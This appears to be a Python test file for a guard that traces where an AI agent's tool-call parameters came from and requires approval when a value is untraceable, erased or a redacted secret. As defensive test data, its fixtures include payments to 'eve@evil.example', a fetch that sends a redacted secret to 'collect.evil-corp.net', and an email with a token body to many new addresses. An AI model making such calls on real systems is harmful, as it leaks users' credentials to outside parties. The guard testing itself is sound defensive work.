"""What is not known of a session or of a call, and that the question says why, on a real data folder."""

from __future__ import annotations

from pathlib import Path
from typing import Any

from assent.contract.control.flows import FlowsQuery, FlowTrace
from assent.contract.problems import Code
from assent.contract.roles import Role
from assent.flows.gaps import FOREIGN, TAKEN_OUT
from assent.origins import origins
from tests.service.control.actions.world import World, opened, refused
from tests.service.control.flows.test_flows import (
    IBAN,
    PROSE,
    RUN,
    check_replayed,
    decisions,
    flowing,
    pay,
    read_the_bill,
    tell,
)


async def test_another_key_has_other_digests_and_asks(tmp_path: Path) -> None:
    async with opened(tmp_path) as world:
        await flowing(world)
        await tell(world, user_text=f"Pay {IBAN}")
        assert (await pay(world)).decision == "allow"
        clock = world.clock
    (tmp_path / "flows.key").unlink()
    async with opened(tmp_path, clock) as world:
        assert (await pay(world)).decision == "require_approval"
        assert "cannot be traced: this session was told under another key than" in str((await pay(world)).reason)
        await check_replayed(world)


async def test_a_secret_that_was_taken_out_cannot_be_compared(world: World) -> None:
    await flowing(world)
    await tell(world, user_text=f"Pay {IBAN} with [REDACTED:aws_key]")
    found = await pay(world, parameters={"recipient": IBAN, "password": "[REDACTED:aws_key]"})
    assert found.decision == "require_approval"
    await check_replayed(world)


async def test_what_belongs_to_an_action_is_erased_with_it(tmp_path: Path) -> None:
    async with opened(tmp_path) as world:
        action = await world.act(status="completed", session_id=RUN)
        await flowing(world)
        await tell(world, user_text=f"Pay {IBAN}")
        await tell(world, tool="read_file", arguments=["path"], result=PROSE, action_id=action.action_id)
        assert "appears only in the text" in str((await pay(world, "eve@evil.example")).reason)
        assert [each.complete for each in (await world.service.flows.page(world.admin, FlowsQuery())).flows] == [True]
        erased = await world.http("POST", f"/api/actions/{action.action_id}/erase", {"reason": "asked for"})
        assert erased.status_code == 200, erased.text
        left = [each.data for each in await world.events(kind="flow.told")]
        assert [each is None for each in left] == [False, True]

        async def check(world: World) -> None:
            reason = str((await pay(world, "eve@evil.example")).reason)
            assert reason.endswith(
                "This email address (recipient) cannot be traced: a part of what this session was told is erased, so "
                "the text that has it may be missing."
            )
            trace = (await decisions(world))[-1].flow
            assert isinstance(trace, FlowTrace)
            assert (trace.gaps, trace.complete) == (["erased"], False)
            assert origins(trace, {}).lines() == [
                "recipient: This email address stands in nothing that is left of what the user said and tools "
                "answered; a part of what this session was told is erased.",
                "A part of what this session was told is erased, so a text that has one of these values may be "
                "missing.",
                "The session has the label untrusted_seen: text of somebody else was read. No answer of a tool that "
                "is kept put it on.",
            ]
            secret = str(
                (await pay(world, "[REDACTED:token]", action_type="log_in", parameters={"password": "x"})).reason
            )
            assert secret.endswith("a credential, and nothing that is left of what the user said names it.")
            assert (await pay(world)).decision == "allow", "what the user said is there"
            await check_replayed(world)
            (found,) = (await world.service.flows.page(world.admin, FlowsQuery())).flows
            assert found.labels == ["untrusted_seen"], "a label is not lost with what put it on"
            assert not found.complete, "what was erased is missing"

        async with refused(Code.ACTION_ERASED):
            await tell(world, tool="read_file", result=PROSE, action_id=action.action_id)
        await check(world)
        clock = world.clock
    async with opened(tmp_path, clock) as world:
        await check(world)
        assert not (await tell(world, user_text="Go on")).complete


async def test_of_a_secret_that_was_taken_out_the_operator_reads_first(world: World) -> None:
    """Whatever else the call asks about, and in a session of which all is known."""
    await flowing(world)
    await tell(world, user_text="Please fetch the page")
    call: dict[str, Any] = {"action_type": "fetch", "session_id": RUN}
    asked = await world.guard(parameters={"url": f"https://collect.evil-corp.net/x?d=[REDACTED:{'g'}]"}, **call)
    reason = str(asked.reason).split(": ", 1)[1]
    assert reason.startswith(TAKEN_OUT)
    assert "more was answered" not in reason
    trace = (await decisions(world))[-1].flow
    assert isinstance(trace, FlowTrace)
    assert (trace.gaps, trace.complete, trace.whole) == (["secret"], True, False)
    told = origins(trace, {"parameters": {"url": "https://collect.evil-corp.net/x?d=[REDACTED:g]"}})
    assert (told.session, told.reach) == ((TAKEN_OUT,), ""), "and it is trusted nowhere else"
    many = {"to": [f"x{n}@new.example" for n in range(9)], "body": "[REDACTED:token]"}
    await read_the_bill(world)
    asked = await world.guard(action_type="send_email", parameters=many, session_id=RUN)
    assert str(asked.reason).split(": ", 1)[1].startswith(TAKEN_OUT)
    honest = await world.guard(
        action_type="write_file", parameters={"content": "TOKEN=[REDACTED:token]"}, session_id=RUN
    )
    assert TAKEN_OUT in str(honest.reason)
    await check_replayed(world)


async def test_a_rule_of_the_house_says_what_is_missing(tmp_path: Path) -> None:
    async with opened(tmp_path) as world:
        payer, eve = world.somebody(Role.AGENT, "payer", "payer"), world.somebody(Role.AGENT, "eve", "eve")
        action = await world.act(payer, status="completed", session_id=RUN)
        await flowing(world, when={"value_from": "recipient", "in": ["free"]})
        await tell(world, payer, user_text="Please pay the bill")
        assert str((await pay(world, by=eve)).reason).endswith(f"Nobody can tell whether this is so. {FOREIGN}")
        await tell(world, payer, tool="read_file", arguments=["path"], result=PROSE, action_id=action.action_id)
        erased = await world.http("POST", f"/api/actions/{action.action_id}/erase", {"reason": "asked for"})
        assert erased.status_code == 200, erased.text
        assert str((await pay(world, by=payer)).reason).endswith(
            "Nobody can tell whether this is so. A part of what this session was told is erased."
        )
        await check_replayed(world)
